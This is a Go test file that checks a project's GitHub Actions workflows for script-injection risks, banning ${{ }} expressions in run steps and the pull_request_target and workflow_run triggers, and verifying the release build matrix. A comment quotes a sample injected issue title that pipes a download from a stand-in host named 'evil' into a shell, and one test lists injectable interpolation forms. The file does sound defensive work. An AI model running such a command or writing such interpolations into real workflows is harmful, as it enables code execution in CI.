package ci

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

var workflows = filepath.Join("..", "..", "..", ".github", "workflows")

type workflow struct {
	On   yaml.Node
	Jobs map[string]struct {
		Strategy struct {
			Matrix struct {
				Include []map[string]string
			}
		}
		Steps []struct {
			Name string
			Uses string
			Run  string
			With map[string]string
		}
	}
}

func readWorkflows(t *testing.T) map[string]workflow {
	t.Helper()
	names, _ := filepath.Glob(filepath.Join(workflows, "*.yml"))
	if len(names) < 4 {
		t.Fatalf("%d workflows in %s", len(names), workflows)
	}
	out := map[string]workflow{}
	for _, n := range names {
		src, err := os.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		var w workflow
		if err := yaml.Unmarshal(src, &w); err != nil {
			t.Fatalf("%s: %v", n, err)
		}
		out[filepath.Base(n)] = w
	}
	return out
}

// expression is a GitHub expression, ${{ … }}.
var expression = regexp.MustCompile(`\$\{\{[^}]*\}\}`)

// TestNoTextInScripts: an expression inside a script is pasted into it
// before the shell (or github-script's JavaScript) reads it, so an issue
// titled `"; curl evil | sh; "` would run. Every value reaches a script
// through an environment variable instead; this test allows no expression
// in any run: or script: at all, so that the rule needs no list of which
// contexts an outsider can write.
func TestNoTextInScripts(t *testing.T) {
	for name, w := range readWorkflows(t) {
		for job, j := range w.Jobs {
			for i, s := range j.Steps {
				for what, script := range map[string]string{"run": s.Run, "with.script": s.With["script"]} {
					if m := expression.FindAllString(script, -1); m != nil {
						t.Errorf("%s: job %s, step %d (%s): %s holds %q; pass the value in env: and use the variable", name, job, i+1, s.Name, what, m)
					}
				}
			}
		}
	}
}

// TestNoTextInScriptsCatches: the rule above fails on the forms an
// injection takes.
func TestNoTextInScriptsCatches(t *testing.T) {
	for _, bad := range []string{
		`echo "${{ github.event.issue.body }}"`,
		"gh pr create --title '${{github.event.issue.title}}'",
		`git switch ${{ github.head_ref }}`,
	} {
		if !expression.MatchString(bad) {
			t.Errorf("%q is not caught", bad)
		}
	}
}

// TestNoPullRequestTarget: pull_request_target runs with the repository's
// token on a fork's pull request; none of the workflows needs it.
func TestNoPullRequestTarget(t *testing.T) {
	for name := range readWorkflows(t) {
		src, _ := os.ReadFile(filepath.Join(workflows, name))
		if strings.Contains(string(src), "pull_request_target") || strings.Contains(string(src), "workflow_run") {
			t.Errorf("%s runs on pull_request_target or workflow_run", name)
		}
	}
}

// TestReleaseMatrixIsTargets: release.yml builds exactly Targets, under
// their asset names, with the version stamped into kb.
func TestReleaseMatrixIsTargets(t *testing.T) {
	w := readWorkflows(t)["release.yml"]
	got := w.Jobs["build"].Strategy.Matrix.Include
	if len(got) != len(Targets) {
		t.Fatalf("release.yml builds %d targets, Targets has %d", len(got), len(Targets))
	}
	for i, tg := range Targets {
		if g := got[i]; g["goos"] != tg.GOOS || g["goarch"] != tg.GOARCH || g["name"] != tg.Asset {
			t.Errorf("release.yml's target %d is %v, Targets has %+v", i+1, g, tg)
		}
	}
	src, _ := os.ReadFile(filepath.Join(workflows, "release.yml"))
	for _, want := range []string{"-X main.version=$VERSION", "sha256sum", "CGO_ENABLED: \"0\""} {
		if !strings.Contains(string(src), want) {
			t.Errorf("release.yml lacks %q", want)
		}
	}
}
